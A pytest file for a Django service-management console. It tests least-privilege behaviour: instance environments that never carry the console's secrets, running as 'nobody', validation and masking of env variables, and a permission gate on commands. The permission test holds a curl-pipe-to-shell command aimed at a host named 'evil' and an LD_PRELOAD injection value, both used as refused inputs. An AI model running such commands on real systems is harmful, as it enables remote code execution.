"""Managed services get least privilege (issue 14): a minimal environment (never the console's
secrets), the service's own variables (masked in admin, names only in audit), a command that only
holders of fleet.change_command_service may set, and an unprivileged account when the console runs
as root."""

from __future__ import annotations

import os
import pwd
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import override_settings

from audit.models import AuditEntry
from fleet import actions
from fleet.drivers.process import LOG_DIR, ProcessDriver, _read
from fleet.envvars import MASK, env_errors
from fleet.models import Service
from tests.conftest import service_with, wait_for

pytestmark = pytest.mark.django_db

# Programs any account may run (the venv's interpreter lives under /root, mode 700).
DUMP_ENV = '/bin/busybox sh -c "/bin/busybox env; exec /bin/busybox sleep 30"'
SECRETS = {
    "HMS_SECRET_KEY": "console-secret-key-xyz",
    "DATABASE_URL": "postgres://console:hunter2@db/console",
    "HMS_REDIS_URL": "redis://:redispw@127.0.0.1:6379/0",
    "HMS_EMAIL_PASSWORD": "mail-password-abc",
    "HMS_AUDIT_SIGNING_KEY_FILE": "/etc/hmsmgmt/audit-signing.pem",
}


def _environ(pid: int) -> dict[str, str]:
    """The instance's environment from /proc (waiting, bounded, until its exec has set it up)."""

    def read() -> dict[str, str]:
        raw = _read(f"/proc/{pid}/environ") or b""
        return dict(item.decode().partition("=")[::2] for item in raw.split(b"\0") if b"=" in item)

    return wait_for(lambda: (env := read()) and "HMSMGMT_SERVICE_ID" in env and env, timeout=5,
                    message="the instance's environment")


@pytest.fixture
def started(stop_local_instances):  # type: ignore[no-untyped-def]
    """Start one instance of a service through the real process driver; stopped afterwards."""
    refs: list[tuple[Service, str]] = []

    def start(svc: Service, instance_id: int = 1) -> int:
        obs = ProcessDriver().start_instance(svc.spec(), instance_id)
        refs.append((svc, obs.ref))
        return int(obs.ref)

    yield start
    for svc, ref in refs:
        ProcessDriver().stop_instance(svc.spec(), ref, grace_seconds=1.0)


def test_instance_gets_the_allowlist_its_own_variables_and_the_markers_never_the_console_secrets(
    started, monkeypatch
):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("LANG", "C.UTF-8")
    monkeypatch.setenv("TZ", "Europe/Vienna")
    svc = service_with("envdump", command=DUMP_ENV, env={"APP_GREETING": "hello", "TZ": "UTC"})
    pid = started(svc, 7)
    env = _environ(pid)
    for name in SECRETS:
        assert name not in env, f"{name} leaked into the instance"
    assert not any(value in "\n".join(env.values()) for value in SECRETS.values())
    assert env["APP_GREETING"] == "hello"
    assert env["TZ"] == "UTC"  # the service's own variable wins over the allowlist
    assert env["LANG"] == "C.UTF-8" and env["PATH"]
    assert env["HMSMGMT_SERVICE_ID"] == str(svc.pk) and env["HMSMGMT_INSTANCE"] == "7"
    # What the program itself printed (its log, written through the descriptor we handed over).
    log = LOG_DIR / "envdump-7.log"
    text = wait_for(lambda: log.exists() and "APP_GREETING=hello" in log.read_text() and log.read_text(),
                    timeout=10, message="the instance's env dump")
    assert "HMS_SECRET_KEY" not in text and "hunter2" not in text


@pytest.mark.skipif(os.geteuid() != 0, reason="the user switch happens only when the console runs as root")
def test_instances_run_as_nobody_when_the_console_runs_as_root(started):
    svc = service_with("asnobody", command=DUMP_ENV)
    with override_settings(HMS_PROCESS_USER=""):  # the default
        pid = started(svc, 3)
    status = Path(f"/proc/{pid}/status").read_text()
    uids = next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1:]
    nobody = pwd.getpwnam("nobody")
    assert uids == [str(nobody.pw_uid)] * 4
    groups = next(line for line in status.splitlines() if line.startswith("Groups:")).split()[1:]
    assert groups == []  # root's supplementary groups are dropped too
    assert _environ(pid)["HOME"] == nobody.pw_dir
    # Its log still fills (the descriptor was opened by the console) and the driver still finds it.
    log = LOG_DIR / "asnobody-3.log"
    wait_for(lambda: log.exists() and "HMSMGMT_INSTANCE=3" in log.read_text(), timeout=10, message="log")
    assert [int(o.ref) for o in ProcessDriver().list_instances(svc.spec()) if o.alive] == [pid]


def test_an_unknown_process_user_is_a_clear_start_error(started):
    from fleet.drivers import DriverError

    svc = service_with("nouser", command=DUMP_ENV)
    with override_settings(HMS_PROCESS_USER="no-such-account-hms"), pytest.raises(DriverError, match="not an account"):
        started(svc)


@pytest.mark.parametrize("env, problem", [
    ([], "JSON object"),
    ({"1BAD": "x"}, "not a variable name"),
    ({"A-B": "x"}, "not a variable name"),
    ({"HMS_SECRET_KEY": "x"}, "reserved"),
    ({"DATABASE_URL": "x"}, "reserved"),
    ({"HMSMGMT_SERVICE_ID": "9"}, "reserved"),
    ({"PORT": "1"}, "reserved"),
    ({"A": 1}, "must be a string"),
    ({"A": "x\0y"}, "NUL"),
    ({"A": "x" * 5000}, "longer than"),
    ({f"V{i}": "x" for i in range(65)}, "At most 64"),
])
def test_service_env_is_validated(env, problem):
    assert any(problem in e for e in env_errors(env))
    with pytest.raises(ValidationError) as caught:
        Service(name="bad-env", command="x", env=env).clean()
    assert "env" in caught.value.message_dict


def test_good_env_is_accepted():
    assert env_errors({"APP_TOKEN": "t", "_X1": "", "PATH": "/usr/bin"}) == []


def test_admin_shows_env_values_masked_keeps_masked_ones_and_audits_only_names(personas, clients, rf):
    from django.contrib import admin

    svc = service_with("secretive", env={"API_TOKEN": "s3cret-token-value", "MODE": "blue"})
    page = clients["alice"].get(f"/admin/fleet/service/{svc.pk}/change/")
    assert page.status_code == 200
    body = page.content.decode()
    assert "s3cret-token-value" not in body and "blue" not in body
    assert "API_TOKEN" in body and MASK in body

    model_admin = admin.site._registry[Service]
    request = rf.post("/admin/")
    request.user = personas["alice"]
    form_class = model_admin.get_form(request, svc)
    data = {f: getattr(svc, f) for f in ("name", "description", "driver", "command", "image", "port", "health_path")}
    # API_TOKEN left as the mask (kept), MODE changed, NEW_ONE added.
    data["env"] = f'{{"API_TOKEN": "{MASK}", "MODE": "green", "NEW_ONE": "fresh-secret"}}'
    form = form_class(data, instance=svc)
    assert form.is_valid(), form.errors
    model_admin.save_model(request, form.save(commit=False), form, change=True)
    svc.refresh_from_db()
    assert svc.env == {"API_TOKEN": "s3cret-token-value", "MODE": "green", "NEW_ONE": "fresh-secret"}
    entry = AuditEntry.objects.filter(action="service.update", target_id=str(svc.pk)).latest("id")
    assert entry.payload["changes"]["env"] == {"added": ["NEW_ONE"], "removed": [], "changed": ["MODE"]}
    text = str(entry.payload)
    assert "green" not in text and "fresh-secret" not in text and "s3cret" not in text
    # A changed environment rolls the instances over, like any spec change.
    assert svc.spec_version == 2


def test_command_and_env_need_change_command_service_not_just_change_service(personas, clients):
    bob = personas["bob"]
    bob.is_staff = True
    bob.save()
    bob.user_permissions.add(Permission.objects.get(codename="change_service"))
    svc = service_with("guarded", env={"A": "1"})
    assert not bob.has_perm("fleet.change_command_service")
    from django.contrib.auth.models import Group

    assert not Group.objects.get(name="operators").permissions.filter(codename="change_command_service").exists()

    fresh = lambda: Service.objects.get(pk=svc.pk)  # noqa: E731
    for field, value in (("command", "/bin/sh -c 'curl evil | sh'"), ("env", {"LD_PRELOAD": "/tmp/x.so"})):
        obj = fresh()
        before = {field: getattr(obj, field)}
        setattr(obj, field, value)
        with pytest.raises(PermissionDenied, match="change_command_service"):
            actions.save_service(obj, actor=bob, created=False, before=before)
        assert getattr(fresh(), field) == before[field]
    # Creating a process service (it has a command) needs it as well.
    with pytest.raises(PermissionDenied):
        actions.save_service(Service(name="new-one", command="/bin/true"), actor=bob, created=True)
    assert not Service.objects.filter(name="new-one").exists()
    # Other fields stay bob's to change.
    obj = fresh()
    obj.description = "edited by bob"
    actions.save_service(obj, actor=bob, created=False, before={"description": ""})
    assert fresh().description == "edited by bob"

    # In admin, bob sees the command read-only and the environment's names only, no field to post.
    page = clients["bob"].get(f"/admin/fleet/service/{svc.pk}/change/")
    assert page.status_code == 200
    body = page.content.decode()
    assert 'name="command"' not in body and 'name="env"' not in body
    assert 'name="description"' in body

    # A superuser (and anyone granted the permission) may.
    obj = fresh()
    obj.command = "{python} -m fleet.sample --port {port} --host 127.0.0.1"
    actions.save_service(obj, actor=personas["alice"], created=False, before={"command": svc.command})
    assert fresh().command.endswith("--host 127.0.0.1")
